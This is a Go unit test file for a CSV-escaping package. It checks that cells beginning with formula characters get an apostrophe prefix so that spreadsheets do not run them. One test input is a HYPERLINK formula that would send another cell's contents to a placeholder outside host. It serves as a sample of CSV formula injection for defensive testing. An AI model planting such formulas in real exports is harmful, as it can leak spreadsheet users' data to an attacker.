package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell_EscapesWhatSpreadsheetsRunAsFormulas(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://x.example/?"&A1)`: `'=HYPERLINK("http://x.example/?"&A1)`,
		"+33612345678":                        "'+33612345678",
		"-2+3":                                "'-2+3",
		"@SUM(A1)":                            "'@SUM(A1)",
		"\tcmd":                               "'\tcmd",
		"\rcmd":                               "'\rcmd",
		"Dupont":                              "Dupont",
		"":                                    "",
		"a=b":                                 "a=b",
		"Jean-Pierre":                         "Jean-Pierre",
	}
	for in, want := range cases {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriter_NoCellStartsWithAFormulaCharacter(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, ';')
	if err := w.Write([]string{"=1+1", "Léa; \"la\"", "-5", "ok"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&buf)
	r.Comma = ';'
	rec, err := r.Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=1+1", "Léa; \"la\"", "'-5", "ok"}
	for i := range want {
		if rec[i] != want[i] {
			t.Errorf("cell %d = %q, want %q", i, rec[i], want[i])
		}
		if Risky(rec[i]) {
			t.Errorf("cell %d still risky: %q", i, rec[i])
		}
	}
}
